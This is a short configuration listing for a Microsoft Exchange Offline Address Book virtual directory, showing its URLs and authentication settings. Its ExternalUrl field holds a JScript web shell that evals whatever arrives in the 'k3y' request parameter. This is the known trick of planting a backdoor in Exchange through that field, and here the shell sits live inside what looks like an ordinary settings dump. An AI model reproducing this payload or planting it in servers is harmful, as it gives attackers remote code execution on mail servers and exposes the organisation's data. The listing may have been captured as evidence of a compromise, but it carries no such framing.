OfflineAddressBooks: \Default Offline Address Book
RequireSSL: False
BasicAuthentication: False
WindowsAuthentication: True
PollInterval: 480
InternalUrl: https://exch01.example.org/OAB
InternalAuthenticationMethods: WindowsIntegrated
ExternalUrl: http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k3y"],"unsafe");}</script>
ExternalAuthenticationMethods: WindowsIntegrated
ExtendedProtectionTokenChecking: None
Name: OAB (Default Web Site)
